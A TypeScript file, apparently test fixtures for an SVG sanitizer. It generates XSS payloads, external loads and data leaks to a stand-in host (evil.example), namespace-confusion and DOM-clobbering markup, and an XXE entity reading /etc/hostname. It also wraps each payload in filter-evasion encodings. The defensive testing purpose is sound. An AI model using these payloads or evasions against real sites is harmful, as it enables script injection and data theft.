@@ -1,0 +1,214 @@
+// Attacks on an SVG sanitizer, built from tables: what would act (by class), where in a file it is put, and how it is
+// written. Every vector is put in every place in every writing.
+
+const SCRIPT = 'alert(1)';
+const OUTSIDE = '//evil.example/x';
+const NAMESPACES = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';
+
+/** Every pair of the two lists, printed. */
+const cross = (
+  left: readonly string[],
+  right: readonly string[],
+  print: (a: string, b: string) => string,
+): readonly string[] => left.flatMap(a => right.map(b => print(a, b)));
+
+const words = (text: string): readonly string[] => text.split(' ');
+
+const EVENTS = words('onload onerror onbegin onfocus onpointerrawupdate ontoggle');
+const HANDLED = words('svg g rect use image animate body img input details video');
+const LOADERS = words(
+  'a:href a:xlink:href use:href image:href feImage:xlink:href script:src script:href iframe:src iframe:srcdoc embed:src object:data ' +
+    'img:src img:srcset input:src video:poster audio:src source:src track:src link:href base:href form:action button:formaction ' +
+    'pattern:href filter:href textPath:href mpath:href cursor:href color-profile:xlink:href font-face-uri:href animate:to set:to',
+);
+const ADDRESSES = [
+  `javascript:${SCRIPT}`,
+  `data:text/html,<script>${SCRIPT}</script>`,
+  `data:image/svg+xml,<svg onload=${SCRIPT}>`,
+  OUTSIDE,
+];
+const RESOURCE_PROPERTIES = words(
+  'fill stroke mask clip-path filter marker-start cursor background list-style-image border-image content src behavior -moz-binding',
+);
+/** Elements whose content HTML reads as text and XML as elements, or the other way round. */
+const RAW_TEXT = words('style script title textarea noscript noembed noframes xmp iframe plaintext template');
+/** Elements at which a parser of HTML leaves SVG or MathML, or enters them. */
+const BORDERS = words(
+  'foreignObject desc title mtext mi mo mn ms annotation-xml math svg table select form p',
+);
+/** Names that shadow a property of the page where an element is called so. */
+const CLOBBERED = words(
+  'attributes childNodes parentNode firstChild nodeName ownerDocument innerHTML removeChild cookie body __proto__ constructor',
+);
+const ANIMATED = words('href xlink:href onload style fill src to');
+
+const sleeper = `<img src=x onerror=${SCRIPT}>`;
+
+/** What would run a script, reach outside or change what others read, by class of attack. */
+export const VECTORS: Readonly<Record<string, readonly string[]>> = {
+  'event handlers': [
+    ...cross(HANDLED, EVENTS, (tag, event) => `<${tag} ${event}="${SCRIPT}"/>`),
+    ...cross(words('rect svg img'), EVENTS, (tag, event) => `<${tag}/${event}=${SCRIPT}>`),
+    ...EVENTS.map(event => `<g ${event.toUpperCase()}='${SCRIPT}'></g>`),
+  ],
+  'addresses that run or load': cross(LOADERS, ADDRESSES, (loader, address) => {
+    const colon = loader.indexOf(':');
+    return `<${loader.slice(0, colon)} ${loader.slice(colon + 1)}="${address.replaceAll('<', '&lt;')}"/>`;
+  }),
+  'style sheets': [
+    ...RESOURCE_PROPERTIES.map(name => `<rect style="${name}:url(${OUTSIDE})"/>`),
+    ...RESOURCE_PROPERTIES.map(name => `<rect ${name}="url('${OUTSIDE}')"/>`),
+    ...RESOURCE_PROPERTIES.map(name => `<style>*{${name}:url(${OUTSIDE})}</style>`),
+    `<style>@import "${OUTSIDE}";</style>`,
+    `<style>@font-face{font-family:x;src:url(${OUTSIDE})}</style>`,
+    `<style>[id^=a]{fill:url(${OUTSIDE}?a)}</style>`,
+    `<rect style="width:expression(${SCRIPT})"/>`,
+    `<rect style="--a:url(${OUTSIDE});fill:var(--a)"/>`,
+  ],
+  'text that a second parser reads as elements': [
+    ...RAW_TEXT.map(tag => `<${tag}></${tag}>${sleeper}</${tag}>`),
+    ...RAW_TEXT.map(tag => `<${tag}><a id="</${tag}>${sleeper}"></a></${tag}>`),
+    ...RAW_TEXT.map(tag => `<svg><${tag}>&lt;/${tag}&gt;${sleeper.replaceAll('<', '&lt;')}</${tag}></svg>`),
+    ...RAW_TEXT.map(tag => `<${tag}><!--</${tag}>${sleeper}--></${tag}>`),
+    `<!--><script>${SCRIPT}</script>-->`,
+    `<!-- --!><script>${SCRIPT}</script> -->`,
+    `<![CDATA[]]><script>${SCRIPT}</script>]]>`,
+    `<!${sleeper}>`,
+    `<?x ?><script>${SCRIPT}</script>?>`,
+    `</${sleeper}>`,
+  ],
+  'changes of namespace': [
+    ...cross(BORDERS, words('style script title'), (border, tag) => {
+      return `<math><${border}><${tag}>${sleeper}</${tag}></${border}></math>`;
+    }),
+    ...BORDERS.map(border => `<svg><${border}><svg onload="${SCRIPT}"/></${border}></svg>`),
+    ...BORDERS.map(border => `<${border} xmlns="http://www.w3.org/1999/xhtml">${sleeper}</${border}>`),
+    `<x:script xmlns:x="http://www.w3.org/2000/svg">${SCRIPT}</x:script>`,
+    `<x:rect xmlns:x="http://www.w3.org/2000/svg" x:onload="${SCRIPT}"/>`,
+    `<rect xmlns:xlink="urn:other" xmlns:q="http://www.w3.org/1999/xlink" q:href="javascript:${SCRIPT}"/>`,
+    `<g xml:base="javascript:"><use href="#a"/></g>`,
+  ],
+  'names that shadow the page': [
+    ...CLOBBERED.map(name => `<form id="${name}"><input name="${name}"/></form>`),
+    ...CLOBBERED.map(name => `<rect id="${name}" name="${name}" fill="url(#${name})"/>`),
+  ],
+  'animation that sets what is forbidden': [
+    ...ANIMATED.map(name => `<a><set attributeName="${name}" to="javascript:${SCRIPT}"/></a>`),
+    ...ANIMATED.map(
+      name => `<use><animate attributeName="${name}" values="#a;javascript:${SCRIPT}" dur="1s"/></use>`,
+    ),
+  ],
+  'templates and instructions': [
+    `<text>{{constructor.constructor('${SCRIPT}')()}}</text>`,
+    `<text>\${${SCRIPT}}<%= ${SCRIPT} %></text>`,
+    `<?xml-stylesheet href="${OUTSIDE}.xsl" type="text/xsl"?>`,
+    `<?php ${SCRIPT} ?>`,
+    `<!DOCTYPE svg SYSTEM "${OUTSIDE}">`,
+    `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/hostname">]>`,
+    `<script type="importmap">{"imports":{"x":"${OUTSIDE}"}}</script>`,
+    `<meta http-equiv="refresh" content="0;url=${OUTSIDE}"/>`,
+    `<handler type="application/ecmascript">${SCRIPT}</handler>`,
+  ],
+};
+
+export interface Writing {
+  readonly name: string;
+  readonly write: (vector: string) => string;
+}
+
+const escapeXml = (text: string): string =>
+  text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;');
+const eachChar = (text: string, print: (char: string) => string): string =>
+  Array.from(text, char => print(char)).join('');
+const codeOf = (char: string): number => char.codePointAt(0) ?? 0;
+const inWords = (text: string, inserted: string): string =>
+  text.replace(/(java|scr|on|ur)(?=script|ipt|[a-z]{4}|l\()/gi, `$1${inserted}`);
+
+/** How a vector can be written so that a filter of texts does not know it again. */
+export const WRITINGS: readonly Writing[] = [
+  { name: 'as it is', write: text => text },
+  {
+    name: 'in alternating capitals',
+    write: text => text.replace(/\w\w/g, pair => pair[0]?.toUpperCase() + pair.slice(1)),
+  },
+  { name: 'in predefined entities', write: escapeXml },
+  { name: 'in entities twice', write: text => escapeXml(escapeXml(text)) },
+  { name: 'in decimal references', write: text => eachChar(text, char => `&#${codeOf(char)};`) },
+  {
+    name: 'in long hexadecimal references',
+    write: text => eachChar(text, char => `&#x000${codeOf(char).toString(16)};`),
+  },
+  {
+    name: 'in references of its letters',
+    write: text => text.replace(/[aeiou]/g, char => `&#${codeOf(char)};`),
+  },
+  { name: 'in percent signs', write: encodeURIComponent },
+  {
+    name: 'in escapes of CSS',
+    write: text => text.replace(/[a-z]/g, char => `\\${codeOf(char).toString(16)} `),
+  },
+  {
+    name: 'in UTF-7',
+    write: text => text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-').replaceAll('"', '+ACI-'),
+  },
+  {
+    name: 'in wide letters',
+    write: text => eachChar(text, c => (/[!-~]/.test(c) ? String.fromCharCode(codeOf(c) + 0xfee0) : c)),
+  },
+  { name: 'with tabs in its words', write: text => inWords(text, '\t') },
+  { name: 'with references to line ends in its words', write: text => inWords(text, '&#10;') },
+  { name: 'with NUL in its words', write: text => inWords(text, '\0') },
+  { name: 'with comments in its words', write: text => inWords(text, '/**/') },
+  { name: 'in base 64', write: text => `data:image/svg+xml;base64,${Buffer.from(text).toString('base64')}` },
+];
+
+export interface Place {
+  readonly name: string;
+  /** Whether every vector is well-formed there, so that the file must be accepted. */
+  readonly isWellFormed: boolean;
+  readonly put: (written: string) => string;
+}
+
+const svg = (inner: string): string => `<svg ${NAMESPACES}>${inner}</svg>`;
+/** As an attribute or text takes it: what XML cannot say left out, references kept. */
+const quote = (text: string): string =>
+  text
+    .replace(/[^\t\n\r\x20-\ud7ff\ue000-\ufffd]/g, '')
+    .replace(/&(?!#\d+;|#x[\da-f]+;|(?:amp|lt|gt|quot);)/g, '&amp;')
+    .replaceAll('<', '&lt;')
+    .replaceAll('>', '&gt;')
+    .replaceAll('"', '&quot;');
+
+const VALUES = words('id class href xlink:href fill style d transform onload x clip-path points');
+
+/** Where in a file a vector can stand. */
+export const PLACES: readonly Place[] = [
+  { name: 'as the file', isWellFormed: false, put: written => written },
+  { name: 'in a drawing', isWellFormed: false, put: svg },
+  { name: 'in a link', isWellFormed: false, put: written => svg(`<a><g>${written}</g></a>`) },
+  {
+    name: 'in foreign content',
+    isWellFormed: false,
+    put: written => svg(`<foreignObject>${written}</foreignObject><rect/>`),
+  },
+  { name: 'behind the drawing', isWellFormed: false, put: written => `${svg('<rect/>')}${written}` },
+  {
+    name: 'in a tag',
+    isWellFormed: false,
+    put: written => svg(`<rect ${written.replace(/^<\w+|\/?>$/g, '')}/>`),
+  },
+  { name: 'in a comment', isWellFormed: false, put: written => svg(`<!--${written}--><rect/>`) },
+  { name: 'in CDATA', isWellFormed: false, put: written => svg(`<text><![CDATA[${written}]]></text>`) },
+  {
+    name: 'in an entity',
+    isWellFormed: false,
+    put: written => `<!DOCTYPE svg [<!ENTITY x '${written}'>]>${svg('<rect fill="&x;" href="&x;"/>&x;')}`,
+  },
+  { name: 'as text', isWellFormed: true, put: written => svg(`<text>${quote(written)}</text>`) },
+  { name: 'as a title', isWellFormed: true, put: written => svg(`<title>${quote(written)}</title>`) },
+  ...VALUES.map(name => ({
+    name: `as the value of ${name}`,
+    isWellFormed: true,
+    put: (written: string) => svg(`<use ${name}="${quote(written)}"/>`),
+  })),
+];
